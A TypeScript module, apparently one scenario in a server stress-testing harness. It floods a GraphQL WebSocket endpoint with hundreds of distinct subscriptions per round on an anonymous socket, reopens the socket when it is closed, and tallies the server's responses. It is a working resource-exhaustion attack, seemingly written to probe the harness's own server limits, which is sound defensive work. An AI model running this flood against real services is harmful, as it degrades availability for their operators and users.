// One anonymous socket that opens subscription after subscription, each of its own.

import { WebSocket } from 'ws';
import type { Attack, AttackContext } from '../attack.ts';

const perRound = 200;
/** Products that the server has, so that there is something to watch. */
const goods = 10;

export const attack: Attack = {
  about: 'Opens distinct subscriptions on one anonymous socket, and a new socket when it is closed.',
  async run(context) {
    let serial = 0;
    while (context.goesOn()) serial = await useSocket(context, serial);
  },
};

async function useSocket({ url, tally, goesOn }: AttackContext, from: number): Promise<number> {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
  let serial = from;
  let ready = false;
  socket.on('error', () => {});
  socket.on('open', () => socket.send('{"type":"connection_init"}'));
  socket.on('message', (data) => {
    const { type, payload } = JSON.parse(String(data)) as {
      type: string;
      payload?: { extensions?: { code?: string } }[];
    };
    if (type === 'connection_ack') ready = true;
    else tally.answered(type === 'error' ? (payload?.[0]?.extensions?.code ?? type) : type);
  });
  socket.on('close', (code) => tally.answered(`closed ${code}`));
  while (goesOn() && socket.readyState <= WebSocket.OPEN) {
    await new Promise((resolve) => setTimeout(resolve, 20));
    if (!ready || socket.bufferedAmount > 1_000_000) continue;
    for (let count = 0; count < perRound; count++) {
      const query = `subscription { stockChanged(skus: ["goods-${serial % goods}"]) { s${serial}: sku } }`;
      socket.send(JSON.stringify({ type: 'subscribe', id: String(serial++), payload: { query } }));
      tally.sent++;
    }
  }
  socket.terminate();
  return serial;
}
